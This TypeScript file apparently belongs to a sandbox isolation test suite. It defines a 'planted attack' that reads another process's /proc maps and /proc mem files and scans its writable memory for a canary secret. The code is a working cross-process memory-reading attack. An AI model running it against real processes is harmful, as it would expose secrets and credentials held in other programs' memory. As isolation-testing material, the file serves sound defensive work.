// Searches the writable memory of another process for the boot argument that holds its secret.
import { closeSync, openSync, readFileSync, readSync } from 'node:fs';
import type { PlantedAttack } from '../planted.ts';

const PIECE_BYTES = 1024 * 1024;
/** Larger mappings are address space that was set aside, not memory in use. */
const LARGEST_MAPPING = 64 * 1024 * 1024;
const SECRET = /canary=([0-9a-f]{32})/;

export const readNeighboursMemory: PlantedAttack = ({ pid }) => {
  const maps = readFileSync(`/proc/${pid}/maps`, 'utf8').trim().split('\n');
  const fd = openSync(`/proc/${pid}/mem`, 'r');
  try {
    for (const line of maps.filter((each) => each.split(' ')[1]?.startsWith('rw'))) {
      const [from = 0, to = 0] = (line.split(' ')[0] ?? '')
        .split('-')
        .map((digits) => Number.parseInt(digits, 16));
      if (to - from > LARGEST_MAPPING) continue;
      const found = search(fd, from, to);
      if (found !== undefined) return `its secret, ${found}, in the mapping from 0x${from.toString(16)}`;
    }
  } finally {
    closeSync(fd);
  }
  throw new Error('the memory could be read, but the secret was not found');
};

function search(fd: number, from: number, to: number): string | undefined {
  const piece = Buffer.alloc(PIECE_BYTES);
  for (let at = from; at < to; at += PIECE_BYTES) {
    try {
      const length = readSync(fd, piece, 0, Math.min(PIECE_BYTES, to - at), at);
      const match = piece.toString('latin1', 0, length).match(SECRET);
      if (match !== null) return match[1];
    } catch (error) {
      // Not every mapping can be read.
      if ((error as NodeJS.ErrnoException).code !== 'EIO') throw error;
    }
  }
  return undefined;
}
